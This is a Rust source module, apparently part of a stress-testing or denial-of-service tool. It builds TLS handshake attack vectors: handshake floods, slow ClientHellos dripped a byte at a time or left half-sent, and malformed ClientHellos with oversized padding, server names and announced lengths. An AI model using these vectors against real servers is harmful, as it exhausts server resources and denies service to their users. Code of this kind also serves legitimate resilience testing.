//! Vectors of the TLS handshake.

use std::time::Duration;

use rustls::ClientConnection;

use super::context::{Attacker, End};
use super::dial::server_name;
use super::http_1::{drip, hold, write};

/// Opens a TCP connection.
macro_rules! open_tcp {
    ($attacker:expr) => {
        match $attacker.open_tcp().await {
            Some(stream) => stream,
            None => return End::NotOpened,
        }
    };
}

/// A full handshake, and nothing more: the gate has signed for it, and we go.
pub(super) async fn flood(attacker: Attacker) -> End {
    match attacker.open().await {
        Some(_) => {
            attacker.count_response("handshake");
            End::Finished
        }
        None => End::NotOpened,
    }
}

/// A `ClientHello` a byte every 200 ms, or half of it and then nothing, by place.
pub(super) async fn slow_hello(attacker: Attacker) -> End {
    let mut stream = open_tcp!(attacker);
    let hello = client_hello(&attacker);
    if attacker.slot.is_multiple_of(2) {
        let bytes = hello.into_iter().map(|byte| [byte]);
        return drip(&attacker, &mut stream, bytes, Duration::from_millis(200)).await;
    }
    match write(&attacker, &mut stream, &hello[..hello.len() / 2]).await {
        Ok(()) => hold(&attacker, &mut stream).await,
        Err(end) => end,
    }
}

/// An unusual `ClientHello`, in four forms by place: in records of one byte each; padded to
/// sixty kilobytes; with a server name of sixteen; announced as sixteen megabytes.
pub(super) async fn odd_hello(attacker: Attacker) -> End {
    let mut stream = open_tcp!(attacker);
    let bytes = match attacker.slot % 4 {
        0 => in_records(&client_hello(&attacker)[RECORD..], 1),
        1 => in_records(&handshake(&[(PADDING, vec![0; 60_000])]), RECORD_MAX),
        2 => in_records(&handshake(&[(SERVER_NAME, long_name(16_000))]), RECORD_MAX),
        _ => {
            let mut message = vec![CLIENT_HELLO, 0xff, 0xff, 0xff];
            message.resize(1 << 20, 0);
            in_records(&message, RECORD_MAX)
        }
    };
    match write(&attacker, &mut stream, &bytes).await {
        Ok(()) => hold(&attacker, &mut stream).await,
        Err(end) => end,
    }
}

/// Bytes of a record's header, and of the longest record (RFC 8446, section 5.1).
const RECORD: usize = 5;
const RECORD_MAX: usize = 1 << 14;
const CLIENT_HELLO: u8 = 1;
const SERVER_NAME: u16 = 0;
const PADDING: u16 = 21;

/// A `ClientHello` as this library's clients send it, in one record.
fn client_hello(attacker: &Attacker) -> Vec<u8> {
    let mut bytes = Vec::new();
    let name = server_name(attacker.host());
    if let Ok(mut client) = ClientConnection::new(attacker.context.tls.clone(), name) {
        // Writing to memory does not fail.
        let _ = client.write_tls(&mut bytes);
    }
    bytes
}

/// A handshake message in records of `size` bytes.
fn in_records(message: &[u8], size: usize) -> Vec<u8> {
    let records = message.chunks(size).flat_map(|piece| {
        let [a, b] = (piece.len() as u16).to_be_bytes();
        [22, 3, 1, a, b].into_iter().chain(piece.iter().copied())
    });
    records.collect()
}

/// A `ClientHello` written by hand (RFC 8446, section 4.1.2) with these extensions alone: complete,
/// and without anything that could be agreed on.
fn handshake(extensions: &[(u16, Vec<u8>)]) -> Vec<u8> {
    let mut all = Vec::new();
    for (kind, content) in extensions {
        all.extend(kind.to_be_bytes());
        all.extend((content.len() as u16).to_be_bytes());
        all.extend(content);
    }
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.push(0);
    body.extend([0, 2, 0x13, 0x01, 1, 0]);
    body.extend((all.len() as u16).to_be_bytes());
    body.extend(all);
    let mut message = vec![CLIENT_HELLO];
    message.extend(&(body.len() as u32).to_be_bytes()[1..]);
    message.extend(body);
    message
}

/// The content of a `server_name` extension (RFC 6066, section 3) with one name of this length.
fn long_name(length: u16) -> Vec<u8> {
    let mut content = (length + 3).to_be_bytes().to_vec();
    content.push(0);
    content.extend(length.to_be_bytes());
    content.extend(std::iter::repeat_n(b'a', usize::from(length)));
    content
}
